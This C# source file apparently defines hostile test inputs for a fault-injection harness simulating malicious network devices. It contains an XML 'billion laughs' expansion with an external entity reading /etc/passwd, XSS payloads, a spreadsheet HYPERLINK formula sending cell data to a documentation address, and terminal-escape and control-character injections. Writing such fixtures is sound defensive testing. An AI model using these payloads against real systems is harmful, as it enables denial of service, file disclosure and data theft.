using System.Net;
using System.Text;

namespace Sightline.Farm.Faults;

/// <summary>What a hostile device says.</summary>
/// <param name="Kind">How it attacks.</param>
/// <param name="Elsewhere">The other place that it names.</param>
internal sealed record HostileTerms(HostileKind Kind, IPEndPoint Elsewhere)
{
    /// <summary>An address that no machine has: reserved for documentation (RFC 5737).</summary>
    public static readonly IPEndPoint Documentation = new(IPAddress.Parse("192.0.2.66"), 80);

    /// <summary>Document type whose entities multiply to a thousand million and whose last reads a file.</summary>
    public const string DocumentType = """
        <!DOCTYPE root [
        <!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">
        <!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;"><!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;"><!ENTITY g "&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;"><!ENTITY h "&g;&g;&g;&g;&g;&g;&g;&g;&g;&g;">
        <!ENTITY i "&h;&h;&h;&h;&h;&h;&h;&h;&h;&h;"><!ENTITY file SYSTEM "file:///etc/passwd">
        ]>
        """;

    /// <summary>The text that takes the place of names; null when this kind leaves names alone.</summary>
    public string? Name => Kind switch
    {
        HostileKind.Markup => "<script>alert(1)</script><img src=x onerror=alert(1)>\"'&",
        HostileKind.Formula => "=HYPERLINK(\"http://192.0.2.66/?\"&A1;\"x\")",
        HostileKind.Control => "a\0b\a\u001b[2J\u001b]0;x\u0007\r\nroot.Brand.Brand=EVIL\u202e\u2028\ufeff",
        _ => null,
    };

    /// <summary>The same for mDNS, as bytes: 63 at most go into a name, so bytes that are no UTF-8 come early.</summary>
    public byte[]? Label => Name is { } name ? Kind == HostileKind.Control ? [0xFF, 0xFE, 0xC0, 0x80, .. Encoding.UTF8.GetBytes(name)] : Encoding.UTF8.GetBytes(name) : null;
}
